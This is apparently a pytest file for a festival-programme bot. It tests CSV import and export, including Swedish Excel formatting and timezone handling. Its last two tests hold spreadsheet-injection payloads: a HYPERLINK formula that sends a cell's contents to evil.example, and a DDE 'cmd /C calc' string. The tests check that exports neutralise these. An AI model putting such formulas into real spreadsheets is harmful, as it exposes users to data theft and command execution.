from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from bot.model import EventStatus
from bot.programme import load_programme_file
from bot.programme.csv_export import programme_csv
from bot.programme.csv_import import COLUMNS
from bot.store import Store

from .support import NOW, SCHEDULE

# Semicolons, a byte order mark and Swedish ja/nej: as Excel in Sweden saves a sheet.
PROGRAMME_CSV = (
    "\ufeffcode;title_sv;title_en;abstract_sv;type;track;language;start;end;venue;address;"
    "capacity;signup_required;organisation\n"
    "K1;Dans i parken;Dancing in the park;Alla är välkomna.;Konsert;Kultur;;2027-05-11 19:00;"
    "2027-05-11T22:00+02:00;Folkets park;Amiralsgatan 35;;nej;Föreningen Dans\n"
    "\n"
    "K2;Språkcafé;Language café;;Samtal;Samverkan;ar;2027-05-12T16:00:00Z;2027-05-12T17:30:00Z;"
    "Folkets park;;12;;\n"
)


async def test_csv_import_into_the_current_festival(store: Store, tmp_path: Path) -> None:
    await store.programme.apply(load_programme_file(SCHEDULE), NOW)
    path = tmp_path / "program.csv"
    path.write_text(PROGRAMME_CSV, encoding="utf-8")

    programme = load_programme_file(path)
    report = await store.programme.apply(programme, NOW)

    assert programme.festival is None
    assert report.created == ["K1", "K2"]
    snapshot = await store.programme.snapshot()
    assert snapshot is not None
    dance, cafe = snapshot.event("K1"), snapshot.event("K2")
    assert dance is not None and cafe is not None
    assert dance.title == {"sv": "Dans i parken", "en": "Dancing in the park"}
    assert dance.abstract == {"sv": "Alla är välkomna."}
    assert dance.language == "sv"
    # Local time without an offset is the festival's (Stockholm, summer time).
    assert dance.starts_at == datetime(2027, 5, 11, 17, 0, tzinfo=UTC)
    assert dance.ends_at == datetime(2027, 5, 11, 20, 0, tzinfo=UTC)
    assert (dance.type, dance.track, dance.topics) == ("Konsert", "Kultur", ["Kultur"])
    assert dance.capacity is None and not dance.signup_required
    assert dance.organisation == "Föreningen Dans"
    venue = snapshot.venue_of(dance)
    assert venue is not None and (venue.name, venue.address) == ("Folkets park", "Amiralsgatan 35")
    assert cafe.language == "ar"
    assert cafe.starts_at == datetime(2027, 5, 12, 16, 0, tzinfo=UTC)
    assert cafe.capacity == 12 and cafe.signup_required
    assert snapshot.venue_of(cafe) == venue


async def test_csv_export_imports_back_unchanged(store: Store, tmp_path: Path) -> None:
    await store.programme.apply(load_programme_file(SCHEDULE), NOW)
    snapshot = await store.programme.snapshot()
    assert snapshot is not None
    path = tmp_path / "export.csv"
    path.write_text(programme_csv(snapshot), encoding="utf-8")

    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert len(rows) == 27
    assert rows[0]["code"] == "MM001" and rows[0]["start"] == "2027-05-10T09:30:00+02:00"
    assert tuple(rows[0]) == COLUMNS

    programme = load_programme_file(path)

    theirs = {event.code: event for event in snapshot.events}
    for event in programme.events:
        assert event.model_dump(exclude={"id"}) == theirs.pop(event.code).model_dump(exclude={"id"})
    assert theirs == {}
    report = await store.programme.apply(programme, NOW + timedelta(days=1))
    assert len(report.unchanged) == 27
    after = await store.programme.snapshot()
    assert after is not None
    assert all(event.status is EventStatus.SCHEDULED for event in after.events)
    assert {key: (v.name, v.address) for key, v in after.venues.items()} == {
        key: (v.name, v.address) for key, v in snapshot.venues.items()
    }


def test_columns_may_come_in_any_order(tmp_path: Path) -> None:
    path = tmp_path / "program.csv"
    path.write_text("Title_sv,Start,End,Code\nKör,2027-05-13 18:00,2027-05-13 19:00,K9\n", encoding="utf-8")
    (event,) = load_programme_file(path).events
    assert (event.code, event.title) == ("K9", {"sv": "Kör"})
    assert event.starts_at == datetime(2027, 5, 13, 16, 0, tzinfo=UTC)
    assert event.venue_key is None and event.capacity is None


async def test_formulas_in_an_export_are_text_in_a_spreadsheet_and_come_back_unchanged(
    store: Store, tmp_path: Path
) -> None:
    await store.programme.apply(load_programme_file(SCHEDULE), NOW)
    snapshot = await store.programme.snapshot()
    assert snapshot is not None
    hostile = {"sv": '=HYPERLINK("http://evil.example/?"&A1;"Klicka")', "en": "-|pipe+and @at"}
    first = snapshot.events[0].model_copy(update={"title": hostile, "organisation": "@föreningen"})
    exported = programme_csv(replace(snapshot, events=[first, *snapshot.events[1:]]))

    row = next(csv.DictReader(io.StringIO(exported)))
    assert row["title_sv"].startswith("'="), "a spreadsheet shows it as text"
    assert row["title_en"] == "'-\\|pipe+and @at"
    assert row["organisation"] == "'@föreningen"
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8")
    (back, *_) = load_programme_file(path).events
    assert back.title == hostile and back.organisation == "@föreningen"


async def test_cells_starting_with_tab_or_carriage_return_are_text_too(store: Store, tmp_path: Path) -> None:
    # defusedcsv leaves these two alone; a spreadsheet that drops the whitespace runs the rest.
    await store.programme.apply(load_programme_file(SCHEDULE), NOW)
    snapshot = await store.programme.snapshot()
    assert snapshot is not None
    first = snapshot.events[0].model_copy(
        update={"track": "\t=1+2", "type": "\r=cmd|' /C calc'!A0", "organisation": "\t@ute"}
    )
    exported = programme_csv(replace(snapshot, events=[first, *snapshot.events[1:]]))
    row = next(csv.DictReader(io.StringIO(exported, newline="")))
    assert row["track"] == "'\t=1+2"
    assert row["type"] == "'\r=cmd|' /C calc'!A0"
    assert row["organisation"] == "'\t@ute"
    path = tmp_path / "export.csv"
    path.write_text(exported, encoding="utf-8", newline="")
    (back, *_) = load_programme_file(path).events
    assert back.track.strip() == "=1+2" and back.organisation.strip() == "@ute"
